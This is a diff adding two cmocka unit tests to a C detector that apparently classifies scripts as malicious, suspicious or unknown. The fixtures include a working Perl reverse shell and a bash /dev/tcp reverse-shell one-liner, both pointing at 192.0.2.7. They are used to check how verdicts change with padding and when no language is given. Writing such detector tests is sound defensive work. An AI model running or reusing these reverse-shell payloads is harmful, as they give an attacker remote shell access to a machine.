@@ -114,6 +114,33 @@ without_a_model_reverse_shells_are_found_by_behaviour(void **state)
 	assert_non_null(strstr(r.reasons[0], "shell"));
 }
 
+/* Libraries for networks and system calls have all of these words, somewhere and near. */
+static void
+long_texts_without_a_model_are_suspicious_at_most(void **state)
+{
+	static const char shell[] = "use Socket; socket(S, PF_INET, SOCK_STREAM, 6); "
+				    "connect(S, sockaddr_in(4444, inet_aton('192.0.2.7'))); "
+				    "open(STDIN, '>&S'); exec('/bin/sh -i');\n";
+	struct lw_text text;
+
+	assert_int_equal(judged(*state, LW_LANGUAGE_PERL, shell).verdict, LW_VERDICT_MALICIOUS);
+	lw_text_init(&text, 16 * 1024);
+	lw_text_adds(&text, shell);
+	while (text.length < 4096)
+		lw_text_adds(&text, "# and much more that has nothing to do with it\n");
+	assert_int_equal(
+		judged(*state, LW_LANGUAGE_PERL, text.data).verdict, LW_VERDICT_SUSPICIOUS);
+	lw_text_done(&text);
+}
+
+static void
+without_a_language_nothing_is_said(void **state)
+{
+	assert_int_equal(
+		judged(*state, LW_LANGUAGE_NONE, "bash -i >& /dev/tcp/192.0.2.7/1 0>&1\n").verdict,
+		LW_VERDICT_UNKNOWN);
+}
+
 /* A text of ordinary lines with one line of another kind in it. */
 static char *
 with_line(size_t lines, size_t at, const char *line)
@@ -174,6 +201,8 @@ main(void)
 		cmocka_unit_test(a_layer_that_was_decoded_is_judged_and_named),
 		cmocka_unit_test(empty_and_tiny_texts_are_unknown),
 		cmocka_unit_test(without_a_model_reverse_shells_are_found_by_behaviour),
+		cmocka_unit_test(long_texts_without_a_model_are_suspicious_at_most),
+		cmocka_unit_test(without_a_language_nothing_is_said),
 		cmocka_unit_test(one_injected_line_is_found_wherever_it_is),
 		cmocka_unit_test(the_end_and_the_longest_lines_of_a_huge_text_count),
 	};
